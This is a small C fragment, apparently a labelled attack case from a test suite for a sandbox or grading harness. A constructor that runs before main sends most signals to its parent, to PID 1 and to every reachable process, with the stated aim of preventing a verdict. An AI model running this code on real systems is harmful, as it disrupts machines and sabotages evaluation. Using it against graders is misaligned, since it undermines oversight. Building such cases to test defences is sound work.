// ---
// tries: Sends every signal but SIGKILL and SIGSTOP to its parent, to the first process and to all others.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: be-pid-1
// ---
__attribute__((constructor)) static void attack(void) {
  for (int number = 1; number < 32; number++) {
    if (number == SIGKILL || number == SIGSTOP || number == SIGTSTP || number == SIGTTIN || number == SIGTTOU) continue;
    signal(number, number == SIGCHLD ? SIG_DFL : SIG_IGN);
    if (number == SIGCHLD || number == SIGCONT) continue;
    kill(getppid(), number);
    kill(1, number);
    kill(-1, number);
  }
  attack_did("sent 24 signals to all");
}
